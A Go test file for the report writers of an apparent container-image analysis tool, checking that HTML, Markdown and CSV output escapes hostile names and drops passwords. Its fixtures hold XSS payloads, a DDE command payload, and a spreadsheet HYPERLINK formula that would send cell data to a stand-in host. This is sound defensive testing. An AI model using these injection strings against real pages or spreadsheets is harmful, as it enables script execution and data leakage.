package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"html"
	"io"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"weighline/analysis"
	"weighline/analysis/oci/ocitest"
	"weighline/analysis/plan"
	"weighline/analysis/report"
)

// readImage writes an image and reads it.
func readImage(t *testing.T, layers ...ocitest.Layer) *analysis.Build {
	t.Helper()
	path := filepath.Join(t.TempDir(), "image.oci")
	if err := ocitest.Build(layers...).WriteOCIArchive(path); err != nil {
		t.Fatal(err)
	}
	b, err := analysis.Analyze(t.Context(), analysis.Input{Image: path}, analysis.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// site returns the entries of a distribution with one module of size bytes.
func site(name, version string, size int64) []ocitest.Entry {
	dir := "usr/lib/python3.11/site-packages/"
	info := dir + name + "-1.dist-info/"
	return []ocitest.Entry{
		{Name: info + "METADATA", Body: "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
		{Name: info + "RECORD", Body: name + ".py,,\n"},
		{Name: dir + name + ".py", Size: size},
	}
}

var at = report.Made{By: "weigh test", At: time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)}

// imageOf makes an image of as many layers as instructions.
func imageOf(t *testing.T, instructions ...string) *analysis.Build {
	t.Helper()
	var layers []ocitest.Layer
	for i, by := range instructions {
		layers = append(layers, ocitest.Layer{CreatedBy: by, Entries: site(fmt.Sprintf("demo%d", i), "1.0", 500)})
	}
	return readImage(t, layers...)
}

// hostile are names that would do something where they are not taken as text.
const (
	hostileFile        = `app/</title><script>alert(1)</script><img src=x onerror=alert(2)>|@octocat #1 ![x](https://evil.example/a.png)` + "``"
	hostileInstruction = `=HYPERLINK("https://evil.example?"&A1,"x") --> <b onclick=alert(3)> | [x](javascript:alert(4))`
	hostileVersion     = "@SUM(1+1)*cmd|' /C calc'!A0"
)

func hostileComparison(t *testing.T) *analysis.Comparison {
	t.Helper()
	return analysis.Compare(
		readImage(t, ocitest.Layer{CreatedBy: "RUN pip install demo", Entries: site("demo", "1.0", 500)}),
		readImage(t, ocitest.Layer{CreatedBy: hostileInstruction, Entries: append(site("demo", hostileVersion, 700), ocitest.Entry{Name: hostileFile, Body: "x"})}))
}

// TestHTML checks that the page is whole, needs nothing, runs nothing, and has a
// table for what its maps show.
func TestHTML(t *testing.T) {
	var out bytes.Buffer
	c := hostileComparison(t)
	if err := report.CompareDocument(c, report.CompareOptions{}, at, errors.New("layer 2: </ul><script>alert(5)</script>")).HTML(&out); err != nil {
		t.Fatal(err)
	}
	page := out.String()
	for _, bad := range []string{"<script", "<img", "<b onclick", "src=x onerror=alert(2)>|", "ZgotmplZ", "<link", "@import", "url(http"} {
		if strings.Contains(strings.ToLower(page), strings.ToLower(bad)) {
			t.Errorf("the page holds %q", bad)
		}
	}
	if links := regexp.MustCompile(`(?:href|src)="([^#"][^"]*)"`).FindAllString(page, -1); len(links) > 0 {
		t.Errorf("the page leads elsewhere: %v", links)
	}
	for _, want := range []string{
		"<img src=x onerror=alert(2)>|@octocat #1", "weigh test", "2026-11-25 12:00 UTC", "demo", `role="img"`, `<th scope="col"`, `<th scope="row"`, "prefers-color-scheme:dark", "@media print", `lang="en"`,
		`title="200 bytes">+200 B`, "default-src",
	} {
		if !strings.Contains(page, want) && !strings.Contains(html.UnescapeString(page), html.UnescapeString(want)) {
			t.Errorf("the page lacks %q", want)
		}
	}
	d := xml.NewDecoder(strings.NewReader(strings.Replace(page, "<!doctype html>", "", 1)))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatalf("tags do not match: %v", err)
		}
	}
}

// TestMarkdown checks that nothing in a name is markup, that tables hold, and
// that totals stand in front.
func TestMarkdown(t *testing.T) {
	var out bytes.Buffer
	if err := report.CompareDocument(hostileComparison(t), report.CompareOptions{}, at, nil).Markdown(&out); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	code := regexp.MustCompile("(`+)(?:[^`]|[^`]`+[^`])*?(`+)")
	outside := code.ReplaceAllString(text, "CODE")
	for _, bad := range []string{"<script", "<img", "@octocat", "](http", "](javascript", "onclick=alert(3)>"} {
		if strings.Contains(outside, bad) {
			t.Errorf("%q stands outside of code", bad)
		}
	}
	columns := 0
	for _, line := range strings.Split(text, "\n") {
		if !strings.HasPrefix(line, "|") {
			columns = 0
			continue
		}
		n := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|")
		if columns != 0 && n != columns {
			t.Errorf("%d bars in a table of %d: %s", n, columns, line)
		}
		columns = n
	}
	if i, j := strings.Index(text, "| Unpacked |"), strings.Index(text, "### Packages"); i < 0 || j < i {
		t.Errorf("totals do not stand before the packages:\n%s", text)
	}
}

// TestMarkdownLimit compares what has far more than a comment has room for: 5,000
// packages and 20,000 files that came.
func TestMarkdownLimit(t *testing.T) {
	var a, b []ocitest.Entry
	for i := range 5000 {
		name := fmt.Sprintf("%s-%04d", strings.Repeat("ü|`", 60), i)
		b = append(b, ocitest.Entry{Name: name, Size: int64(i + 1)})
		b = append(b, site(fmt.Sprintf("package%04d", i), "1.0", int64(1000+i))...)
	}
	a = append(a, ocitest.Entry{Name: "x", Body: "x"})
	var left, right []ocitest.Layer
	for i := range 120 {
		right = append(right, ocitest.Layer{CreatedBy: strings.Repeat(fmt.Sprintf("RUN |%d` ", i), 400), Entries: []ocitest.Entry{{Name: fmt.Sprint(i), Size: 9}}})
	}
	left, right = append(left, ocitest.Layer{Entries: a}), append(right, ocitest.Layer{Entries: b})
	c := analysis.Compare(readImage(t, left...), readImage(t, right...))
	for name, d := range map[string]*report.Document{
		"compare": report.CompareDocument(c, report.CompareOptions{}, at, nil),
		"build":   report.BuildDocument(c.B, plan.Preview{}, at, nil),
	} {
		var out bytes.Buffer
		if err := d.Markdown(&out); err != nil {
			t.Fatal(err)
		}
		if n := out.Len(); n > report.MaxMarkdown || n < report.MaxMarkdown/8 {
			t.Errorf("%s: %d bytes, want at most %d, and not next to nothing", name, n, report.MaxMarkdown)
		}
		if !regexp.MustCompile(`(?m)^and \d+ more$`).MatchString(out.String()) {
			t.Errorf("%s does not say that it left something out", name)
		}
	}
}

// TestCSV checks that a spreadsheet takes no text for a formula, and numbers for
// numbers.
func TestCSV(t *testing.T) {
	var out bytes.Buffer
	c := hostileComparison(t)
	if err := report.WriteCompareCSV(&out, c, report.CompareOptions{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, row := range rows[1:] {
		for i, cell := range row {
			number := i > 5
			if !number && strings.IndexAny(cell, "=+-@\t\r") == 0 {
				t.Errorf("%q reads as a formula", cell)
			}
			if strings.HasPrefix(cell, "'@SUM") || strings.HasPrefix(cell, "'=HYPER") {
				found++
			}
		}
		if row[0] == "package" && row[8] != "200" {
			t.Errorf("delta of the package is %q, want 200", row[8])
		}
	}
	if found != 2 {
		t.Errorf("%d hostile texts, want 2:\n%v", found, rows)
	}
	out.Reset()
	if err := report.WriteBuildCSV(&out, c.B, plan.Preview{}); err != nil || !strings.Contains(out.String(), "\npackage,python,demo,'@SUM") {
		t.Errorf("csv of a build = %v\n%s", err, out.String())
	}
}

// TestCSVAddsUp sums what the rows of a comparison say.
func TestCSVAddsUp(t *testing.T) {
	var out bytes.Buffer
	if err := report.WriteCompareCSV(&out, hostileComparison(t), report.CompareOptions{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sum := map[string]int{}
	for _, r := range rows[1:] {
		n, _ := strconv.Atoi(r[8]) // unpacked_delta
		sum[r[0]] += n
	}
	if sum["total"] == 0 || sum["package"]+sum["unowned"] != sum["total"] {
		t.Errorf("packages %d, files of none %d, want %d together", sum["package"], sum["unowned"], sum["total"])
	}
}

// TestNoSecrets makes reports of requirements with a password in them.
func TestNoSecrets(t *testing.T) {
	text := "--extra-index-url https://user:hunter2@pypi.example/simple\nclick==8.2.1\nthing @ https://user:hunter2@files.example/thing-1.0-py3-none-any.whl\n"
	b, _ := analysis.Analyze(t.Context(), analysis.Input{Files: []string{"r.txt"}}, analysis.Options{Texts: map[string][]byte{"r.txt": []byte(text)}})
	if b == nil || b.Graph() == nil {
		t.Fatal("the requirements cannot be read")
	}
	v := plan.Apply(plan.New("click"), b.Graph(), nil)
	var out bytes.Buffer
	d := report.BuildDocument(b, v, at, nil)
	if err := errors.Join(d.HTML(&out), d.Markdown(&out), report.WriteBuildCSV(&out, b, v)); err != nil {
		t.Fatal(err)
	}
	// What a Dockerfile's author wrote into an instruction.
	img := imageOf(t, "RUN pip install -i https://user:hunter2@pypi.example/simple click", "|1 PIP_TOKEN=hunter2 /bin/sh -c pip install click")
	other := imageOf(t, "RUN pip install click", `RUN curl -H "Authorization: Bearer hunter2" https://files.example`)
	c := analysis.Compare(img, other)
	for _, d := range []*report.Document{report.BuildDocument(img, plan.Preview{}, at, nil), report.CompareDocument(c, report.CompareOptions{}, at, nil)} {
		if err := errors.Join(d.HTML(&out), d.Markdown(&out)); err != nil {
			t.Fatal(err)
		}
	}
	j := json.NewEncoder(&out)
	if err := errors.Join(j.Encode(report.Compare(c, report.CompareOptions{}, nil)), j.Encode(report.Image(img, false, nil)), report.WriteCompareCSV(&out, c, report.CompareOptions{})); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "hunter2") || !strings.Contains(out.String(), "click") {
		t.Error("a password stands in the report, or nothing does")
	}
}
